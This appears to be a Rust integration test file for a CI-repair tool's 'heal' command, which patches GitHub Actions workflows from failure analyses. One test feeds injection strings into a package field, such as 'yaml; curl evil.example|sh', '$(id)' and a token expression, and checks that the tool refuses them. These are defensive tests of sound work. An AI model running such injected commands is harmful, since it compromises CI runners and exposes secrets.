@@ -1,0 +1,416 @@
+//! The offline contract of `ci-medic heal --workflow FILE --analysis FILE`:
+//! a unified diff (or JSON) on stdout, `--write` in place, exit 0 when fixed,
+//! 3 when not, other non-zero on errors.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::Value;
+
+use crate::analyze_flow::{gha_log, missing_module_log};
+use crate::support::action::{ActionRun, Runner};
+use crate::support::fake_github::FakeGithub;
+
+const WORKFLOW: &str = "\
+name: CI
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      # Dependencies for the suite.
+      - name: Install dependencies
+        run: pip install pytest   # keep it short
+      - run: pytest -q
+";
+
+struct Offline {
+    _fake: FakeGithub,
+    runner: Runner,
+}
+
+impl Offline {
+    async fn new() -> Offline {
+        let fake = FakeGithub::start().await;
+        let runner = Runner::new(&fake);
+        Offline {
+            _fake: fake,
+            runner,
+        }
+    }
+
+    fn write(&self, rel: &str, text: &str) -> PathBuf {
+        let p = self.runner.path(rel);
+        if let Some(dir) = p.parent() {
+            std::fs::create_dir_all(dir).expect("dir");
+        }
+        std::fs::write(&p, text).expect("write");
+        p
+    }
+
+    async fn run(&self, args: &[&str]) -> ActionRun {
+        self.runner.exec(args, None).await
+    }
+
+    /// `analyze --format json` on a log, as a user would produce it.
+    async fn analysis_of(&self, log: &str) -> PathBuf {
+        let log_path = self.write("job.log", log);
+        let out = self
+            .run(&["analyze", "--log", s(&log_path), "--format", "json"])
+            .await;
+        assert_eq!(out.code, 0, "{}", out.stderr);
+        self.write("analysis.json", result(&out))
+    }
+}
+
+fn s(p: &Path) -> &str {
+    p.to_str().expect("utf-8 path")
+}
+
+/// Inside a runner the token is masked first (`::add-mask::`); the result follows.
+fn result(out: &ActionRun) -> &str {
+    out.stdout
+        .strip_prefix("::add-mask::")
+        .and_then(|r| r.split_once('\n'))
+        .map_or(out.stdout.as_str(), |(_, rest)| rest)
+}
+
+fn json(out: &ActionRun) -> Value {
+    serde_json::from_str(result(out)).unwrap_or_else(|e| panic!("{e}: {}", out.stdout))
+}
+
+#[tokio::test]
+async fn prints_a_unified_diff_and_exits_0() {
+    let o = Offline::new().await;
+    let wf = o.write("ci.yml", WORKFLOW);
+    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let out = o
+        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&analysis)])
+        .await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        result(&out).starts_with("--- a/ci.yml\n+++ b/ci.yml\n"),
+        "{}",
+        out.stdout
+    );
+    assert!(
+        out.stdout
+            .contains("\n-        run: pip install pytest   # keep it short\n"),
+        "{}",
+        out.stdout
+    );
+    assert!(
+        out.stdout
+            .contains("\n+        run: pip install pytest PyYAML   # keep it short\n"),
+        "{}",
+        out.stdout
+    );
+    assert_eq!(
+        std::fs::read_to_string(&wf).ok().as_deref(),
+        Some(WORKFLOW),
+        "not written without --write"
+    );
+    // `--format diff` and `--format text` are the same.
+    for f in ["diff", "text"] {
+        let again = o
+            .run(&[
+                "heal",
+                "--workflow",
+                s(&wf),
+                "--analysis",
+                s(&analysis),
+                "--format",
+                f,
+            ])
+            .await;
+        assert_eq!(again.stdout, out.stdout);
+    }
+}
+
+#[tokio::test]
+async fn json_names_the_changes_and_holds_the_new_workflow() {
+    let o = Offline::new().await;
+    let wf = o.write("ci.yml", WORKFLOW);
+    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let out = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&wf),
+            "--analysis",
+            s(&analysis),
+            "--format",
+            "json",
+        ])
+        .await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let v = json(&out);
+    assert_eq!(v["fixable"], true);
+    assert_eq!(v["category"], "dependency");
+    let changes = v["changes"].as_array().expect("changes");
+    assert_eq!(changes.len(), 1);
+    assert!(
+        changes[0]["description"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("PyYAML")
+    );
+    assert_eq!(
+        v["workflow"].as_str(),
+        Some(
+            WORKFLOW
+                .replace("pip install pytest ", "pip install pytest PyYAML ")
+                .as_str()
+        )
+    );
+}
+
+#[tokio::test]
+async fn write_edits_the_file_in_place() {
+    let o = Offline::new().await;
+    let wf = o.write("ci.yml", WORKFLOW);
+    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let out = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&wf),
+            "--analysis",
+            s(&analysis),
+            "--write",
+        ])
+        .await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let text = std::fs::read_to_string(&wf).expect("read");
+    assert_eq!(
+        text,
+        WORKFLOW.replace("pip install pytest ", "pip install pytest PyYAML ")
+    );
+    // Healed once, the same analysis finds nothing more to do.
+    let again = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&wf),
+            "--analysis",
+            s(&analysis),
+            "--write",
+        ])
+        .await;
+    assert_eq!(again.code, 3, "{}", again.stderr);
+    assert!(
+        again.stderr.contains("already installed"),
+        "{}",
+        again.stderr
+    );
+}
+
+#[tokio::test]
+async fn unfixable_failures_exit_3() {
+    let o = Offline::new().await;
+    let wf = o.write("ci.yml", WORKFLOW);
+    let log = gha_log(
+        2,
+        "pytest -q",
+        &["FAILED tests/test_api.py::test_get - AssertionError: assert 404 == 200"],
+    );
+    let analysis = o.analysis_of(&log).await;
+    let out = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&wf),
+            "--analysis",
+            s(&analysis),
+            "--format",
+            "json",
+        ])
+        .await;
+    assert_eq!(out.code, 3, "{}", out.stderr);
+    let v = json(&out);
+    assert_eq!(v["fixable"], false);
+    assert_eq!(v["category"], "test");
+    assert!(
+        v["reason"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("no automatic fix"),
+        "{v}"
+    );
+    assert_eq!(v["changes"].as_array().map(Vec::len), Some(0));
+    let out = o
+        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&analysis)])
+        .await;
+    assert_eq!(out.code, 3);
+    assert!(result(&out).is_empty(), "{}", out.stdout);
+}
+
+#[tokio::test]
+async fn hostile_analyses_are_refused_offline_too() {
+    let o = Offline::new().await;
+    let wf = o.write("ci.yml", WORKFLOW);
+    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let text = std::fs::read_to_string(&analysis).expect("read");
+    for hostile in [
+        "yaml; curl evil.example|sh",
+        "$(id)",
+        "${{ github.token }}",
+        "yaml\\nrun: id",
+    ] {
+        let bad = text.replace(
+            "\"package\": \"yaml\"",
+            &format!("\"package\": \"{hostile}\""),
+        );
+        assert_ne!(bad, text, "the capture is in the analysis");
+        let p = o.write("hostile.json", &bad);
+        let out = o
+            .run(&[
+                "heal",
+                "--workflow",
+                s(&wf),
+                "--analysis",
+                s(&p),
+                "--format",
+                "json",
+            ])
+            .await;
+        assert_eq!(out.code, 3, "{hostile}: {}", out.stdout);
+        let v = json(&out);
+        assert!(
+            v["reason"]
+                .as_str()
+                .unwrap_or_default()
+                .starts_with("refused"),
+            "{v}"
+        );
+        assert_eq!(v["workflow"].as_str(), Some(WORKFLOW));
+    }
+}
+
+#[tokio::test]
+async fn issue_bodies_and_job_ids_are_accepted() {
+    let o = Offline::new().await;
+    let two_jobs = format!(
+        "{WORKFLOW}  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest -q\n"
+    );
+    let wf = o.write("ci.yml", &two_jobs);
+    let analysis_json = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let analysis: ci_medic::analyze::Analysis =
+        serde_json::from_str(&std::fs::read_to_string(&analysis_json).expect("read"))
+            .expect("analysis");
+    let block = ci_medic::report::issue::IssueAnalysis {
+        version: 1,
+        fingerprint: "0123456789abcdef".into(),
+        category: analysis.category,
+        repo: "octo-org/octo-repo".into(),
+        workflow: "CI".into(),
+        workflow_path: Some(".github/workflows/ci.yml".into()),
+        branch: Some("main".into()),
+        event: "push".into(),
+        head_sha: "a".repeat(40),
+        run_id: 7,
+        run_attempt: 1,
+        run_url: "https://github.com/octo-org/octo-repo/actions/runs/7".into(),
+        jobs: Vec::new(),
+        failures: analysis.failures.clone(),
+        occurrences: Vec::new(),
+        failed_twice: false,
+        others: Vec::new(),
+    };
+    let body = o.write("issue.md", &ci_medic::report::issue::body(&block));
+    // Two jobs and no job name in the analysis: which one must be said.
+    let out = o
+        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&body)])
+        .await;
+    assert_eq!(out.code, 3, "{}", out.stderr);
+    assert!(out.stderr.contains("--job"), "{}", out.stderr);
+    let out = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&wf),
+            "--analysis",
+            s(&body),
+            "--job",
+            "test",
+        ])
+        .await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout
+            .contains("+        run: pip install pytest PyYAML"),
+        "{}",
+        out.stdout
+    );
+}
+
+#[tokio::test]
+async fn requirements_files_beside_the_workflow_are_fixed() {
+    let o = Offline::new().await;
+    let wf = o.write(
+        "repo/.github/workflows/ci.yml",
+        &WORKFLOW.replace(
+            "pip install pytest   # keep it short",
+            "pip install -r requirements.txt",
+        ),
+    );
+    let req = o.write("repo/requirements.txt", "pytest==8.2.0\n");
+    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let out = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&wf),
+            "--analysis",
+            s(&analysis),
+            "--write",
+        ])
+        .await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        result(&out).starts_with("--- a/requirements.txt\n+++ b/requirements.txt\n"),
+        "{}",
+        out.stdout
+    );
+    assert_eq!(
+        std::fs::read_to_string(&req).ok().as_deref(),
+        Some("pytest==8.2.0\nPyYAML\n")
+    );
+}
+
+#[tokio::test]
+async fn bad_inputs_are_errors_not_panics() {
+    let o = Offline::new().await;
+    let wf = o.write("ci.yml", WORKFLOW);
+    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let missing = o.runner.path("nope.yml");
+    let out = o
+        .run(&[
+            "heal",
+            "--workflow",
+            s(&missing),
+            "--analysis",
+            s(&analysis),
+        ])
+        .await;
+    assert_eq!(out.code, 1, "{}", out.stderr);
+    let garbage = o.write("garbage.json", "{\"not\": \"an analysis\"");
+    let out = o
+        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&garbage)])
+        .await;
+    assert_eq!(out.code, 1, "{}", out.stderr);
+    // A workflow that is not YAML cannot be fixed (unless it is a syntax failure).
+    for junk in [
+        "\u{0}\u{1}binary",
+        "jobs: [\n",
+        "{{{{",
+        &"- ".repeat(10_000),
+    ] {
+        let bad = o.write("bad.yml", junk);
+        let out = o
+            .run(&["heal", "--workflow", s(&bad), "--analysis", s(&analysis)])
+            .await;
+        assert_eq!(out.code, 3, "{junk:?}: {}", out.stderr);
+        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
+    }
+}
